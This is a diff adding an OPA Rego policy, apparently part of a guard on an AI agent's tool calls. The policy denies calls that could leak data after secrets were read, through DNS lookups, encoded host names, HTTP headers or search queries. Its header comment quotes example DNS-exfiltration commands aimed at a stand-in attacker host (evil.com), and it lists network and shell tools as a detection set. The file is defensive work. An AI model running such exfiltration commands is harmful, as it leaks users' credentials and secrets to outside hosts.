@@ -1,0 +1,120 @@
+# After secret material was read in the session: the channels that carry data without a body,
+# a query or an upload, which the secrets guard already judges. A host name built from the data
+# (DNS exfiltration: `curl https://<encoded>.evil.com`, `ping $(cat f | base64).evil.com`), a
+# DNS lookup of a name the user did not give, request headers and cookies, and search queries
+# that hold long random strings. Each blocks unless the user named the destination's domain.
+package opafence.taint
+
+import data.opafence.guards.common
+import data.opafence.lib.paths
+import data.opafence.lib.reason
+
+secret_read if input.session.taint.secret_read == true
+
+# Programs whose every run resolves the names they are given.
+resolver_cmds := {
+	"ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "getent", "whois", "arping", "fping",
+	"hping3", "nping", "dig", "nslookup", "host", "drill", "delv", "kdig", "resolvectl", "systemd-resolve",
+	"nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp", "mosh", "rsync",
+}
+
+http_cmds := {"curl", "wget", "http", "https", "httpie", "xh", "aria2c", "lynx", "links", "w3m"}
+
+header_flags := {
+	"-H", "--header", "-b", "--cookie", "-A", "--user-agent", "-e", "--referer", "-u", "--user",
+	"--proxy-header", "--oauth2-bearer", "--proxy-user",
+}
+
+granted_domains := {d | some g in common.task_grants; some d in g.domains}
+
+granted_host(h) if {
+	some d in granted_domains
+	paths.domain_within(h, d)
+}
+
+# METADATA
+# title: secret_channels
+# description: The ways this call would carry data off the machine that no body or query shows.
+secret_channels contains sprintf("the host name %s", [u.host]) if {
+	some u in input.facts.urls
+	u.host_data == true
+	not u.loopback == true
+	not granted_host(u.host)
+}
+
+secret_channels contains sprintf("a lookup of the name %s", [op]) if {
+	some c in common.commands
+	common.cmd_name(c) in resolver_cmds
+	some op in c.operands
+	looked_up(op)
+	not granted_host(op)
+}
+
+secret_channels contains sprintf("a name built when `%s` runs", [common.shown(c)]) if {
+	some c in common.commands
+	common.cmd_name(c) in (resolver_cmds | http_cmds)
+	c.dynamic == true
+}
+
+secret_channels contains sprintf("a request header of `%s`", [common.shown(c)]) if {
+	some c in common.commands
+	common.cmd_name(c) in http_cmds
+	some f in header_flags
+	common.has_flag(c, f)
+	not all_hosts_granted
+}
+
+# httpie's request items: `Header:value`, `field=value`, `field:=json`, `param==value`.
+secret_channels contains sprintf("the request items of `%s`", [common.shown(c)]) if {
+	some c in common.commands
+	common.cmd_name(c) in {"http", "https", "httpie", "xh", "xhs"}
+	some op in c.operands
+	request_item(op)
+	not all_hosts_granted
+}
+
+secret_channels contains "a search query with a long random string" if {
+	input.call.tool in {"web_search", "x_search"}
+	some w in input.facts.words
+	count(w) >= 24
+}
+
+request_item(op) if contains(op, "=")
+
+request_item(op) if {
+	contains(op, ":")
+	not contains(op, "://")
+	not regex.match(`^[A-Za-z0-9.-]+:[0-9]+(/|$)`, op)
+}
+
+# A name that goes to a resolver: it has a dot and a letter, and is not a local name or an address.
+looked_up(op) if {
+	contains(op, ".")
+	regex.match(`[A-Za-z]`, op)
+	not startswith(op, "-")
+	not startswith(op, "@")
+	not lower(op) in {"localhost", "localhost.localdomain"}
+	not endswith(lower(op), ".localhost")
+}
+
+all_hosts_granted if {
+	count(input.facts.urls) > 0
+	every u in input.facts.urls {
+		granted_host(u.host)
+	}
+}
+
+# METADATA
+# title: TAINT_SECRET_CHANNEL
+# description: >-
+#   Secret material was read in this session, and this call would carry data off the machine
+#   in {{.channel}}, to a destination the user did not name.
+# custom:
+#   code: TAINT_SECRET_CHANNEL
+#   fix: >-
+#     Send nothing after reading secrets; if the user wants this request, they name its
+#     domain in their own words.
+deny contains reason.render(rego.metadata.rule(), {"channel": substring(channel, 0, 160)}) if {
+	secret_read
+	some channel in secret_channels
+}
